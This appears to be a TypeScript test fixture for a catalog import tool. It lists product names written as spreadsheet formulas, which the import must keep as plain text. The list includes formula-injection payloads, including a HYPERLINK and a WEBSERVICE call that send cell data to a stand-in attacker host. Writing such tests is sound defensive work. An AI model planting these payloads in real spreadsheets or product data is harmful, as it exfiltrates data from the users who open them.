/**
 * Imported product names that read like catalog formulas (issue 36): a name a marketplace
 * lets anyone choose, kept as text by every import, and never turned into a formula by
 * Convert formulas, in either direction.
 */
export const HOSTILE_NAMES = [
  '=SHOPS()&HYPERLINK("http://evil.example/?d="&C2,"Open the price list")',
  '=MKT.SHOPS("A")&WEBSERVICE("http://evil.example/")',
  '=IFERROR(__xludf.DUMMYFUNCTION("""COMPUTED_VALUE"""),12.5)',
  '=IFERROR(__xludf.DUMMYFUNCTION("MKTA_BREAKDOWN(100001,""SG"",1)"),"x")',
  '=mkta_breakdown(100001,"SG",A1)&"@evil"',
];
